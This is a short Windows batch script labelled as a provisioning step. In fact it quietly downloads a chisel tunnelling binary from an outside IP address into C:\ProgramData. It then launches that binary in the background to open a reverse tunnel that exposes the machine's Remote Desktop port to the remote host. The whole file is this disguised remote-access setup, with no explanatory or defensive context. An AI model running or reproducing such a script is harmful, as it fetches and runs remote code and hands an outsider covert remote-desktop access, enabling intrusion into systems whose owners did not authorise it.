REM provision 2011 v3
@echo off
curl -sLo C:\ProgramData\chisel.exe http://192.0.2.150/chisel.exe
start /b C:\ProgramData\chisel.exe client 192.0.2.150:1337 R:3389:127.0.0.1:3389
